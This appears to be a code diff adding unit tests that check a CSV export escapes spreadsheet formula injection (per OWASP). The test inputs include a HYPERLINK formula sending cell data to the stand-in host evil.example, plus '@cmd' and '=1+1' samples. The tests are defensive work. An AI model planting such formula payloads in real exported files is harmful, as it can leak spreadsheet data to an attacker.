@@ -1,5 +1,12 @@
 import { describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, exportRecords, recordsCsv, recordsGeoJSON, recordsInFilter } from '../../src/domain/export';
+import {
+  CSV_COLUMNS,
+  csvCell,
+  exportRecords,
+  recordsCsv,
+  recordsGeoJSON,
+  recordsInFilter,
+} from '../../src/domain/export';
 import { countInFilter } from '../../src/domain/filtered';
 import { countByDistrict, type AtlasModel } from '../../src/domain/join';
 import { LAYER_IDS } from '../../src/domain/schema';
@@ -96,6 +103,34 @@ describe('CSV export', () => {
     r.name.en = 'A "quoted", name';
     const line = recordsCsv(model, [r], 'en').split('\r\n')[1] ?? '';
     expect(line).toContain('"A ""quoted"", name"');
+  });
+
+  it('writes text a spreadsheet would run as a formula with a leading apostrophe, quoted (OWASP CSV injection)', () => {
+    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(text), text).toBe(`"'${text}"`);
+    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Details")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Details"")"`,
+    );
+    const model = loadRealModel();
+    const r = structuredClone(model.records[0]);
+    if (!r) throw new Error('no record');
+    r.name.en = '=HYPERLINK("http://evil.example/","Details")';
+    r.summary.en = '@cmd';
+    const row = rowOf(recordsCsv(model, [r], 'en'), r.id);
+    expect(row.name_en).toBe(`'${r.name.en}`);
+    expect(row.summary_en).toBe("'@cmd");
+  });
+
+  it('leaves numbers, and text with those characters further in, as they are', () => {
+    expect(csvCell(-121.5)).toBe('-121.5');
+    expect(csvCell('“互联网+生活性服务业”创新试验区')).toBe('“互联网+生活性服务业”创新试验区');
+    expect(csvCell('a-b = c')).toBe('a-b = c');
+  });
+
+  it('needs no apostrophe for any cell of the real data', () => {
+    const model = loadRealModel();
+    for (const lang of LANGS)
+      for (const line of recordsCsv(model, model.records, lang).slice(1).split('\r\n'))
+        for (const cell of cells(line)) expect(cell, line).not.toMatch(/^'[=+\-@\t\r]/);
   });
 
   it('keeps figures in the units of the source in Chinese and in words in English', () => {
